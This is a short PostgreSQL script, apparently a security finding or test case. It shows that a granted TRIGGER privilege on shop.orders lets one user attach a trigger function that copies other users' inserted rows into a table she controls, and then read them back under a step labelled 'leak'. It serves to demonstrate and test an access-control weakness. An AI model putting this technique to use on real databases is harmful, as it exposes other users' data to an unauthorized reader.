-- finding: trigger-granted shop.orders
-- people: alice@example.com
CREATE SCHEMA scratch; GRANT USAGE, CREATE ON SCHEMA scratch TO "alice@example.com"; GRANT USAGE ON SCHEMA scratch TO PUBLIC;
GRANT TRIGGER ON shop.orders TO order_users;
-- first as postgres
DROP TRIGGER IF EXISTS take ON shop.orders;
-- first as alice@example.com
DROP TABLE IF EXISTS scratch.taken;
CREATE TABLE scratch.taken (item text);
GRANT INSERT ON scratch.taken TO PUBLIC;
CREATE OR REPLACE FUNCTION scratch.take() RETURNS trigger LANGUAGE plpgsql
  AS $$ BEGIN INSERT INTO scratch.taken VALUES (NEW.item); RETURN NEW; END $$;
-- first as alice@example.com
CREATE TRIGGER take BEFORE INSERT ON shop.orders FOR EACH ROW EXECUTE FUNCTION scratch.take();
-- first as bob@example.com
INSERT INTO shop.orders (item) VALUES ('secret too');
-- leak as alice@example.com
SELECT item FROM scratch.taken;
